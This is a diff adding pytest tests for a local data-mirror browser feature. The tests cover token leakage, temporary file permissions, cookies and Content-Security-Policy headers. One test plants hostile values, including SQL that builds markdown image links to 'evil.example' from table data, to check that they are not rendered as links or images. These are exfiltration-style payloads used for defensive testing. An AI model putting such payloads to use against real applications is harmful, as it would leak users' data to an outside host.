@@ -16,6 +16,7 @@ from urllib.parse import quote, urlsplit
 
 import pytest
 
+from service.browse.door import door_to
 from service.browse.queries import QUERIES
 from simulator import Simulator
 from tests.homes import Home
@@ -162,8 +163,99 @@ def test_the_browser_that_is_opened_knows_no_token(home: Home) -> None:
     browser.write_text("#!/bin/sh\n{ env; echo LINK $1; } > seen.new; mv seen.new seen.txt\n")
     browser.chmod(0o755)
     home.settings |= {"BROWSER": str(browser)}
-    home.start("browse")
+    home.settings["TMPDIR"] = str(home.folder)
+    process = home.start("browse")
     seen = home.folder / "seen.txt"
     home.wait_for(seen.exists, "the browser")
-    assert "LINK http://127.0.0.1:" in seen.read_text()
-    assert home.simulator.token not in seen.read_text()
+    text = seen.read_text()
+    assert home.simulator.token not in text
+    assert "ticket" not in text, "others can read a command line"
+
+    page = Path(urlsplit(text.rpartition("LINK ")[2].strip()).path)
+    assert page.stat().st_mode & 0o777 == 0o600
+    assert page.parent.stat().st_mode & 0o777 == 0o700
+    (link,) = set(re.findall(r"http://127[^\"]+", page.read_text()))
+    visitor = Visitor(link)
+    assert "The mirror at a glance" in visitor.get(link)[1]
+    assert not page.parent.exists(), "it is of no use any more"
+    process.terminate()
+    home.finish(process)
+
+
+def test_a_door_that_nobody_went_through_is_taken_away(home: Home) -> None:
+    home.run("sync")
+    home.settings |= {"BROWSER": "true", "TMPDIR": str(home.folder)}
+    process = home.start("browse")
+    home.wait_for(lambda: any(home.folder.glob("testio-sync-*/*")), "the page")
+    process.terminate()
+    home.finish(process)
+    assert list(home.folder.glob("testio-sync-*")) == []
+
+
+def test_whoever_comes_from_a_file_is_led_on_by_a_page_of_ours(home: Home) -> None:
+    """Behind a redirect the browser would not send the cookie that it has just got."""
+    home.run("sync")
+    link = browse(home)
+    request = urllib.request.Request(link, headers={"Sec-Fetch-Site": "cross-site"})
+    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request) as answer:
+        assert answer.status == 200
+        assert "SameSite=Strict" in answer.headers["Set-Cookie"]
+        assert 'url=/-/dashboards/mirror"' in answer.read().decode()
+
+
+@only_on_ci
+@pytest.mark.timeout(120)
+def test_a_real_browser_gets_in_by_the_file(home: Home, tmp_path: Path) -> None:
+    chromium = needs_tool("chromium")
+    home.run("sync")
+    command = [chromium, "--headless", "--no-sandbox", "--disable-gpu"]
+    command += [f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=10000"]
+    with door_to(browse(home)) as door:
+        shown = subprocess.run(
+            [*command, "--dump-dom", door.url], capture_output=True, text=True, timeout=90
+        )
+    assert "The mirror at a glance" in shown.stdout, shown.stderr
+
+
+def test_texts_of_strangers_are_no_links_and_no_html(home: Home) -> None:
+    evil = "http://127.0.0.1:1/mirror?sql=select+1+as+x_markdown"
+    product = home.simulator.account()["products"][0]["id"]
+    home.simulator.mutate("change", "product", id=product, fields={"name": evil})
+    home.run("sync")
+    link = browse(home)
+    visitor = Visitor(link)
+    visitor.get(link)
+    image = quote("select '![x](http://evil.example/' || name || ')' as x_markdown from products")
+    long = quote("select 'https://evil.example/' || hex(zeroblob(9000)) as url_html")
+    for path in (
+        "mirror/products",
+        f"mirror?sql={image}",
+        f"mirror?sql={long}",
+        "mirror/freshness",
+    ):
+        status, page = visitor.get(f"{visitor.origin}/{path}")
+        assert status == 200
+        assert "evil.example" in page or "127.0.0.1:1/" in page
+        linked = re.findall(r'(?:href|src)="((?:https?:)?//[^"]*)"', page)
+        hosts = {urlsplit(url).netloc for url in linked}
+        assert hosts <= {urlsplit(link).netloc, "datasette.io"}, "links out of data"
+        assert "<img" not in page
+
+
+def test_every_answer_has_a_policy(home: Home) -> None:
+    home.run("sync")
+    link = browse(home)
+    opener = urllib.request.build_opener(
+        urllib.request.ProxyHandler({}), urllib.request.HTTPCookieProcessor(CookieJar())
+    )
+    origin = f"http://{urlsplit(link).netloc}"
+    pages = ("/", "/mirror", "/mirror/tests", "/mirror.json", "/-/static/app.css", "/nothing")
+    for url in (f"{origin}/mirror", link, *(origin + page for page in pages)):
+        try:
+            headers = opener.open(url, timeout=20).headers
+        except urllib.error.HTTPError as error:
+            headers = error.headers
+        policy = headers["Content-Security-Policy"]
+        for part in ("default-src 'self'", "form-action 'self'", "frame-ancestors 'none'"):
+            assert part in policy, url
+        assert "http:" not in policy
